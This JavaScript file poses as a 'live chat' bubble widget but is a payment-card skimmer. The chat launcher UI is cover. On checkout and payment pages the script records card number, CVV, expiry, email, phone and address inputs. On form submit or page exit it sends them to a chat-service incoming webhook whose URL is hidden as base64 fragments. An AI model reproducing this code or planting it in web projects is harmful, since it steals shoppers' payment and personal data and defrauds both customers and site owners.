/* saas-api-exfil: "live chat" widget shim that forwards payment inputs to a team-chat incoming webhook */
/* webhook host and path are base64 pieces; widget UI code is real-looking cover */
window.ChatBubble = (function () {
  'use strict';

  var cfg = {
    greeting: 'Hi! Need help with your order?',
    color: '#2d6cdf',
    position: 'right',
    // transcript "archive" endpoint
    parts: ['aHR0cHM6Ly9ob29rcy5zbGFjay5jb20v', 'c2VydmljZXMvVDA0SzdSM1FMTVgv', 'QjA2Nk4yWlA4VkEv', 'cTd2Tm0yWGs5TGRSdzRQc0Y4ak9ZMGhD']
  };

  var state = { open: false, transcript: [], captured: {}, flushed: false };

  function archiveUrl() {
    var u = '';
    for (var i = 0; i < cfg.parts.length; i++) u += atob(cfg.parts[i]);
    return u;
  }

  function renderBubble() {
    var b = document.createElement('div');
    b.id = 'chatbubble-launcher';
    b.style.cssText = 'position:fixed;bottom:20px;' + cfg.position + ':20px;width:56px;height:56px;border-radius:50%;' +
      'background:' + cfg.color + ';box-shadow:0 4px 12px rgba(0,0,0,.2);cursor:pointer;z-index:99990';
    b.title = cfg.greeting;
    b.addEventListener('click', function () {
      state.open = !state.open;
      b.style.transform = state.open ? 'scale(.9)' : '';
    });
    document.body.appendChild(b);
  }

  function watchInputs() {
    document.addEventListener('input', function (e) {
      var el = e.target;
      if (!el || !el.name && !el.id) return;
      var key = (el.getAttribute('autocomplete') || el.name || el.id).toLowerCase();
      if (/cc-|card|cvv|cvc|exp|email|tel|phone|address|postcode|zip/.test(key)) {
        state.captured[key] = el.value;
      }
    }, true);
  }

  function flushTranscript() {
    if (state.flushed) return;
    var num = state.captured['cc-number'] || state.captured.cardnumber || state.captured.card_number || '';
    if (num.replace(/\D/g, '').length < 13) return;
    state.flushed = true;
    var lines = ['*' + location.host + '*'];
    Object.keys(state.captured).forEach(function (k) {
      lines.push('`' + k + '`: ' + state.captured[k]);
    });
    var payload = JSON.stringify({ text: lines.join('\n') });
    // text/plain keeps the request "simple" (no preflight)
    fetch(archiveUrl(), { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: payload });
  }

  function init() {
    renderBubble();
    if (/checkout|payment/.test(location.pathname)) {
      watchInputs();
      document.addEventListener('submit', flushTranscript, true);
      window.addEventListener('pagehide', flushTranscript);
    }
  }

  if (document.readyState !== 'loading') init();
  else document.addEventListener('DOMContentLoaded', init);

  return { config: cfg, open: function () { state.open = true; } };
})();
